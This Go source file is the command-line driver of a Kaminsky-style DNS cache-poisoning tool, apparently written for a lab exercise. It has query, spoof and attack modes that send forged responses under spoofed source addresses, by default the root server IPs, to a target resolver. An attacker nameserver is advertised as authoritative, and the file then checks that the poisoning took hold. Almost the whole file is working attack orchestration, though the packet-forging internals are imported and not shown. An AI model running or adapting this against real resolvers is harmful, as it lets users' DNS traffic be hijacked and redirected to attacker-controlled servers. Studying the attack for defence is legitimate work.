// Command poisoner drives the query/spoof/attack surface of a Kaminsky
// DNS cache-poisoning exercise: a clean recursive query, a one-shot
// forged response, or the full attack loop against a target resolver.
package main

import (
	"context"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"golang.org/x/time/rate"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/promhttp"

	"github.com/dnskaminsky/poisoner/internal/attack"
	"github.com/dnskaminsky/poisoner/internal/config"
	"github.com/dnskaminsky/poisoner/internal/dnscodec"
	"github.com/dnskaminsky/poisoner/internal/eventbus"
	"github.com/dnskaminsky/poisoner/internal/query"
	"github.com/dnskaminsky/poisoner/internal/validate"
)

const banner = `
+------------------------------------------------------------+
|                 dns-poisoner (query/spoof/attack)            |
|         Kaminsky-style cache-poisoning test harness           |
+------------------------------------------------------------+
`

func main() {
	mode := flag.String("mode", "", "one of query, spoof, attack")
	hostname := flag.String("hostname", "", "FQDN to query (query mode) or spoof (spoof mode)")
	dnsServer := flag.String("dns-server", "", "resolver to query (query mode)")
	targetAddr := flag.String("target-addr", "", "victim resolver IPv4 (spoof, attack)")
	spoofedAddrs := flag.String("spoofed-addrs", "", "comma-separated source IPs to forge (spoof uses first only)")
	attackerNS := flag.String("attacker-ns", "", "NS hostname to advertise as authoritative (spoof, attack)")
	spoofedResponse := flag.String("spoofed-response", "", "IPv4 to return as the A record (spoof mode)")
	targetDomain := flag.String("target-domain", "", "domain to poison (attack mode)")
	duration := flag.Float64("duration", 5.0, "attack duration in seconds")

	configPath := flag.String("config", "", "optional YAML file supplying default spoofed-addrs/rate/metrics-addr")
	rateFlag := flag.Float64("rate", 0, "cap on forged packets per second (0 = unlimited)")
	metricsAddr := flag.String("metrics-addr", "", "if set, serve Prometheus metrics on this address")
	verify := flag.Bool("verify", false, "after an attack run, confirm the poisoning with clean follow-up queries")

	flag.Parse()

	fmt.Println(banner)

	var cfgFile *config.File
	if *configPath != "" {
		f, err := config.Load(*configPath)
		if err != nil {
			fmt.Fprintf(os.Stderr, "error: load config %q: %v\n", *configPath, err)
			os.Exit(1)
		}
		cfgFile = f
	}

	if *rateFlag == 0 && cfgFile != nil && cfgFile.RateLimit > 0 {
		*rateFlag = cfgFile.RateLimit
	}
	if *metricsAddr == "" && cfgFile != nil {
		*metricsAddr = cfgFile.MetricsAddr
	}

	fmt.Println("Configuration:")
	fmt.Printf("  mode:             %s\n", *mode)
	fmt.Printf("  hostname:         %s\n", *hostname)
	fmt.Printf("  target-addr:      %s\n", *targetAddr)
	fmt.Printf("  target-domain:    %s\n", *targetDomain)
	fmt.Printf("  attacker-ns:      %s\n", *attackerNS)
	fmt.Printf("  duration:         %.1fs\n", *duration)
	fmt.Printf("  rate:             %v\n", *rateFlag)
	fmt.Printf("  metrics-addr:     %s\n", *metricsAddr)
	fmt.Printf("  verify:           %v\n", *verify)
	fmt.Println()

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	sigCh := make(chan os.Signal, 1)
	signal.Notify(sigCh, syscall.SIGINT, syscall.SIGTERM)
	go func() {
		<-sigCh
		fmt.Println("\nshutdown signal received, stopping...")
		cancel()
	}()

	var err error
	switch *mode {
	case "query":
		err = runQuery(*hostname, *dnsServer)
	case "spoof":
		err = runSpoofMode(*hostname, *targetAddr, *spoofedAddrs, *attackerNS, *spoofedResponse)
	case "attack":
		err = runAttackMode(ctx, attackModeArgs{
			targetAddr:   *targetAddr,
			spoofedAddrs: *spoofedAddrs,
			attackerNS:   *attackerNS,
			targetDomain: *targetDomain,
			duration:     *duration,
			rateLimit:    *rateFlag,
			metricsAddr:  *metricsAddr,
			verify:       *verify,
			cfgFile:      cfgFile,
		})
	default:
		fmt.Fprintf(os.Stderr, "error: unknown mode %q (want query, spoof, or attack)\n", *mode)
		os.Exit(1)
	}

	if err != nil {
		fmt.Fprintf(os.Stderr, "error: %v\n", err)
		os.Exit(1)
	}
}

// runQuery sends one clean recursive query to dnsServer for hostname and
// prints the response's sections, spec §6's "query" mode.
func runQuery(hostname, dnsServer string) error {
	if hostname == "" || dnsServer == "" {
		return fmt.Errorf("query mode requires --hostname and --dns-server")
	}

	q, err := query.BuildOne(hostname)
	if err != nil {
		return fmt.Errorf("build query: %w", err)
	}

	reqBytes, err := q.Emit()
	if err != nil {
		return fmt.Errorf("emit query: %w", err)
	}

	conn, err := net.Dial("udp4", net.JoinHostPort(dnsServer, "53"))
	if err != nil {
		return fmt.Errorf("dial %s: %w", dnsServer, err)
	}
	defer conn.Close()

	conn.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := conn.Write(reqBytes); err != nil {
		return fmt.Errorf("send query: %w", err)
	}

	buf := make([]byte, 65535)
	n, err := conn.Read(buf)
	if err != nil {
		return fmt.Errorf("read response: %w", err)
	}

	resp, err := dnscodec.Parse(buf[:n])
	if err != nil {
		return fmt.Errorf("parse response: %w", err)
	}

	fmt.Printf("id=%d rcode=%d answers=%d authorities=%d additionals=%d\n",
		resp.Header.ID, resp.Header.Rcode, len(resp.Answers), len(resp.Authorities), len(resp.Additionals))
	for _, rr := range resp.Answers {
		fmt.Printf("  ANSWER %s type=%d ttl=%d rdata=% x\n", rr.Name.String(), rr.RType, rr.TTL, rr.RData)
	}
	for _, rr := range resp.Authorities {
		fmt.Printf("  AUTHORITY %s type=%d ttl=%d rdata=% x\n", rr.Name.String(), rr.RType, rr.TTL, rr.RData)
	}
	return nil
}

// runSpoofMode sends a single forged response, spec §6's "spoof" mode.
// Only the first of --spoofed-addrs is used, per the flag table.
func runSpoofMode(hostname, targetAddr, spoofedAddrs, attackerNS, spoofedResponse string) error {
	if hostname == "" || targetAddr == "" || spoofedAddrs == "" || attackerNS == "" || spoofedResponse == "" {
		return fmt.Errorf("spoof mode requires --hostname, --target-addr, --spoofed-addrs, --attacker-ns, --spoofed-response")
	}

	srcIPs, err := parseIPList(spoofedAddrs)
	if err != nil {
		return err
	}

	targetIP := net.ParseIP(targetAddr).To4()
	if targetIP == nil {
		return fmt.Errorf("--target-addr %q is not a valid IPv4 address", targetAddr)
	}
	respIP := net.ParseIP(spoofedResponse).To4()
	if respIP == nil {
		return fmt.Errorf("--spoofed-response %q is not a valid IPv4 address", spoofedResponse)
	}

	return attack.RunSpoof(attack.SpoofConfig{
		Hostname:        hostname,
		TargetAddr:      targetIP,
		SpoofedSrcIP:    srcIPs[0],
		AttackerNS:      attackerNS,
		SpoofedResponse: respIP,
	})
}

type attackModeArgs struct {
	targetAddr   string
	spoofedAddrs string
	attackerNS   string
	targetDomain string
	duration     float64
	rateLimit    float64
	metricsAddr  string
	verify       bool
	cfgFile      *config.File
}

// runAttackMode drives the full Kaminsky loop, spec §6's "attack" mode,
// plus the ambient --rate/--metrics-addr/--verify additions.
func runAttackMode(ctx context.Context, args attackModeArgs) error {
	if args.targetAddr == "" || args.attackerNS == "" || args.targetDomain == "" {
		return fmt.Errorf("attack mode requires --target-addr, --attacker-ns, --target-domain")
	}

	targetIP := net.ParseIP(args.targetAddr).To4()
	if targetIP == nil {
		return fmt.Errorf("--target-addr %q is not a valid IPv4 address", args.targetAddr)
	}

	addrList := args.spoofedAddrs
	if addrList == "" && args.cfgFile != nil && len(args.cfgFile.SpoofedAddrs) > 0 {
		addrList = joinAddrs(args.cfgFile.SpoofedAddrs)
	}
	var srcIPs []net.IP
	if addrList != "" {
		ips, err := parseIPList(addrList)
		if err != nil {
			return err
		}
		srcIPs = ips
	} else {
		ips, err := parseIPList(joinAddrs(config.DefaultRootServers))
		if err != nil {
			return err
		}
		srcIPs = ips
		fmt.Println("no --spoofed-addrs given, defaulting to the 13 IANA root server addresses")
	}

	reg := prometheus.NewRegistry()
	metrics := attack.NewMetrics(reg)
	if args.metricsAddr != "" {
		mux := http.NewServeMux()
		mux.Handle("/metrics", promhttp.HandlerFor(reg, promhttp.HandlerOpts{}))
		go func() {
			if err := http.ListenAndServe(args.metricsAddr, mux); err != nil {
				fmt.Fprintf(os.Stderr, "metrics server on %s exited: %v\n", args.metricsAddr, err)
			}
		}()
		fmt.Printf("serving metrics on http://%s/metrics\n", args.metricsAddr)
	}

	var limiter *rate.Limiter
	if args.rateLimit > 0 {
		limiter = rate.NewLimiter(rate.Limit(args.rateLimit), 1)
	}

	events := eventbus.New(16)

	burstSub := events.Subscribe(ctx, eventbus.TopicBurst)
	defer burstSub.Close()
	go func() {
		for ev := range burstSub.Ch {
			fmt.Printf("burst complete: %v\n", ev.Data)
		}
	}()

	stopTicker := make(chan struct{})
	defer close(stopTicker)
	ticker := time.NewTicker(2 * time.Second)
	defer ticker.Stop()
	go func() {
		for {
			select {
			case <-ticker.C:
				fmt.Println("...attacking")
			case <-stopTicker:
				return
			}
		}
	}()

	result, err := attack.RunAttack(ctx, attack.Config{
		AttackerNS:       args.attackerNS,
		TargetDomain:     args.targetDomain,
		TargetResolverIP: targetIP,
		SpoofedSrcIPs:    srcIPs,
		Duration:         time.Duration(args.duration * float64(time.Second)),
		Limiter:          limiter,
		Metrics:          metrics,
		Events:           events,
	})
	if err != nil {
		return fmt.Errorf("attack: %w", err)
	}

	fmt.Printf("attack finished: %d rounds, %d ids tried\n", result.RoundsCompleted, result.IDsTried)

	if args.verify {
		winSub := events.Subscribe(ctx, eventbus.TopicWin)
		defer winSub.Close()

		vr, err := validate.Run(ctx, validate.Config{
			ResolverIP:   targetIP,
			TargetDomain: args.targetDomain,
			AttackerNS:   args.attackerNS,
			Events:       events,
		})
		if err != nil {
			return fmt.Errorf("verify: %w", err)
		}
		if vr.Poisoned {
			fmt.Println("VERIFIED: target resolver now delegates to the attacker's NS")
		} else {
			fmt.Println("not verified: no probe observed the forged delegation")
		}
	}

	return nil
}

func parseIPList(csv string) ([]net.IP, error) {
	var ips []net.IP
	start := 0
	for i := 0; i <= len(csv); i++ {
		if i == len(csv) || csv[i] == ',' {
			s := csv[start:i]
			start = i + 1
			if s == "" {
				continue
			}
			ip := net.ParseIP(s).To4()
			if ip == nil {
				return nil, fmt.Errorf("%q is not a valid IPv4 address", s)
			}
			ips = append(ips, ip)
		}
	}
	if len(ips) == 0 {
		return nil, fmt.Errorf("no addresses given")
	}
	return ips, nil
}

func joinAddrs(addrs []string) string {
	out := ""
	for i, a := range addrs {
		if i > 0 {
			out += ","
		}
		out += a
	}
	return out
}
